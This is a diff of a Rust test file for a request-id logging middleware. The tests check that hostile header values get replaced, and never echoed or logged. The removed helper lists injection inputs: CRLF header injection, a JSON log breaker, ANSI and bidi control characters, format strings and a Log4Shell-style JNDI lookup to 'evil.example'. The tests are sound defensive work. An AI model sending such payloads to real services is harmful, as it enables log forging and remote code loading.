@@ -12,40 +12,10 @@
 mod app;
 mod common;
 
-use common::{client_runtime, get_request, RawConn, RawResponse, TestServer};
+use common::{
+    client_runtime, contains, get_request, hostile_ids, str_field, RawConn, RawResponse, TestServer,
+};
 use corrlog::http::IdPolicy;
-
-fn hostile_ids() -> Vec<(&'static str, Vec<u8>)> {
-    let mut v: Vec<(&'static str, Vec<u8>)> = vec![
-        ("empty", b"".to_vec()),
-        ("spaces", b"    ".to_vec()),
-        ("cr", b"abc\rdef-cr".to_vec()),
-        ("nul", b"abc\0def-nul".to_vec()),
-        ("esc ansi", b"abc\x1b[2Jdef-esc".to_vec()),
-        ("bel", b"abc\x07def-bel".to_vec()),
-        ("del", b"abc\x7fdef-del".to_vec()),
-        ("c1 controls", b"abc\xc2\x85\xc2\x9bdef-c1".to_vec()),
-        ("raw c1 bytes", b"abc\x85\x9bdef-c1raw".to_vec()),
-        ("percent crlf", b"abc%0d%0aSet-Cookie:%20x=1".to_vec()),
-        ("bidi override", "abc\u{202e}fed-bidi".as_bytes().to_vec()),
-        ("line separator", "abc\u{2028}def-ls".as_bytes().to_vec()),
-        ("zero width", "abc\u{200b}def-zw".as_bytes().to_vec()),
-        ("bom", "\u{feff}abc-bom".as_bytes().to_vec()),
-        ("homoglyph", "аbc-homoglyph".as_bytes().to_vec()), // Cyrillic a
-        ("invalid utf8", b"abc\xff\xfe\xfddef-bad-utf8".to_vec()),
-        (
-            "json breaker",
-            br#"x","level":"ERROR","message":"pwned-json"#.to_vec(),
-        ),
-        ("jndi", b"${jndi:ldap://evil.example/a}".to_vec()),
-        ("format strings", b"%s%n%x{}{0}-fmt".to_vec()),
-        ("129 bytes", vec![b'a'; 129]),
-        ("8 KiB", vec![b'k'; 8 * 1024]),
-        ("300 KB", vec![b'm'; 300 * 1000]),
-    ];
-    v.push(("quote", b"abc\"def-quote".to_vec()));
-    v
-}
 
 /// What must never be echoed or logged: the raw value, or a tell-tale part.
 fn needle(value: &[u8]) -> Vec<u8> {
@@ -54,10 +24,6 @@ fn needle(value: &[u8]) -> Vec<u8> {
     } else {
         value.to_vec()
     }
-}
-
-fn contains(haystack: &[u8], needle: &[u8]) -> bool {
-    !needle.is_empty() && haystack.windows(needle.len()).any(|w| w == needle)
 }
 
 fn one(server: &TestServer, request: &[u8]) -> RawResponse {
@@ -86,40 +52,69 @@ fn assert_output_clean(server: &TestServer, values: &[(&str, Vec<u8>)]) {
 
 #[test]
 fn hostile_request_ids_are_replaced_and_never_echoed_or_logged() {
-    let server = TestServer::start(2, app::router(app::AppConfig::default()));
-    let policy = IdPolicy::default();
+    let server = TestServer::start(
+        2,
+        app::routes(app::AppConfig::default(), None).layer(corrlog::RequestLayer::new()),
+    );
+    let mut issued = Vec::new();
     let mut refused = Vec::new();
     for (name, value) in hostile_ids() {
         let mut header = b"x-request-id: ".to_vec();
         header.extend_from_slice(&value);
         let res = one(&server, &get_request("/orders/1", &[&header]));
         if (res.status == 400 || res.status == 431) && res.header("x-request-id").is_none() {
+            // hyper refuses some header values before any middleware runs:
+            // nothing reaches the service or the log.
             refused.push(name);
             continue;
         }
         assert_eq!(res.status, 200, "{name}");
+        assert_eq!(res.header_count("x-request-id"), 1, "{name}");
         let id = res.header("x-request-id").unwrap();
         assert!(
-            policy.accepts(id.as_bytes()),
-            "{name}: invalid id {id:?} sent back"
+            common::is_uuid_v4(&id),
+            "{name}: replaced by a generated id, got {id:?}"
         );
-        assert_eq!(res.json()["request_id"], id.as_str(), "{name}");
+        let body = res.json();
+        assert_eq!(body["request_id"], id.as_str(), "{name}");
+        assert_eq!(
+            body["seen"]["handler"],
+            id.as_str(),
+            "{name}: the handler sees only the new id"
+        );
         for (_, v) in &res.headers {
             assert!(
                 !contains(v, &needle(&value)) || value.len() < 3,
                 "{name}: echoed"
             );
         }
+        issued.push((name, id));
     }
     eprintln!("refused by the HTTP parser before the service: {refused:?}");
+    assert!(
+        issued.len() >= 15,
+        "most classes reach the middleware: {issued:?}"
+    );
     assert_output_clean(&server, &hostile_ids());
+    let lines = server.lines();
+    for (name, id) in &issued {
+        assert!(
+            lines
+                .iter()
+                .any(|l| str_field(l, "request_id") == Some(id) && l["message"] == "fetching order"),
+            "{name}: the handler's line carries the new id"
+        );
+    }
     // Still serving.
     assert_eq!(one(&server, &get_request("/", &[])).status, 200);
 }
 
 #[test]
 fn hostile_paths_and_user_agents_stay_inside_their_strings() {
-    let server = TestServer::start(2, app::router(app::AppConfig::default()));
+    let server = TestServer::start(
+        2,
+        app::routes(app::AppConfig::default(), None).layer(corrlog::RequestLayer::new()),
+    );
     let paths: Vec<(&str, Vec<u8>)> = vec![
         (
             "percent crlf path",
@@ -174,7 +169,10 @@ fn hostile_paths_and_user_agents_stay_inside_their_strings() {
 
 #[test]
 fn keep_alive_and_pipelined_sequences_mixing_good_bad_ids_and_panics() {
-    let server = TestServer::start(4, app::router(app::AppConfig { jitter_ms: 1 }));
+    let server = TestServer::start(
+        4,
+        app::routes(app::AppConfig { jitter_ms: 1 }, None).layer(corrlog::RequestLayer::new()),
+    );
     // Values the HTTP parser lets through, so one connection carries them all.
     let bad: Vec<Vec<u8>> = vec![
         b"has space".to_vec(),
